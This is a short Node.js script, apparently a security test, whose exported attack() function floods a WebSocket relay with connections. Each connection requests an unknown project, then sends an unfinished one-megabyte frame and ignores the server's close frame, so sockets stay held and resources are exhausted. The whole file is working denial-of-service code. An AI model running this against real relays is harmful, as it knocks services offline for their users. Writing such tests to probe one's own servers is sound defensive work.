import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

const localAddress = '127.0.0.2';
const opensMax = 3_000;
const workers = 16;
/** A masked text frame of a megabyte without its end. */
const fragment = Buffer.concat([
  Buffer.from([0x01, 0xff, 0, 0, 0, 0, 0, 0x0f, 0xff, 0x00, 0, 0, 0, 0]),
  Buffer.alloc(1_048_320),
]);
const rest = 'connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13';
const key = Buffer.alloc(16).toString('base64');

/** H3: an unknown project is refused by a close frame, which this client neither answers nor obeys. */
export async function attack({ relayUrl, seconds }) {
  const { hostname, port, pathname } = new URL(relayUrl);
  const untilMs = Date.now() + seconds * 1_000;
  const counts = { opened: 0, statuses: {} };
  const open = new Set();
  const start = () =>
    new Promise((resolve) => {
      counts.opened += 1;
      const socket = connect({ host: hostname, port: Number(port), localAddress });
      open.add(socket);
      socket.on('error', () => undefined);
      socket.on('close', () => {
        open.delete(socket);
        resolve();
      });
      socket.once('data', (data) => {
        const status = data.toString('latin1', 9, 12);
        counts.statuses[status] = (counts.statuses[status] ?? 0) + 1;
        if (status === '101') socket.write(fragment);
        else socket.destroy();
        resolve();
      });
      socket.write(
        `GET ${pathname}?projectId=nobody&useOnCloseEvent=true HTTP/1.1\r\nhost: x\r\n${rest}\r\nsec-websocket-key: ${key}\r\n\r\n`,
      );
    });
  const work = async () => {
    while (Date.now() < untilMs && counts.opened < opensMax) {
      await start();
      await wait(10);
    }
  };
  await Promise.all(Array.from({ length: workers }, work));
  await wait(Math.max(0, untilMs - Date.now()));
  const held = open.size;
  for (const socket of open) socket.destroy();
  return { ...counts, held };
}
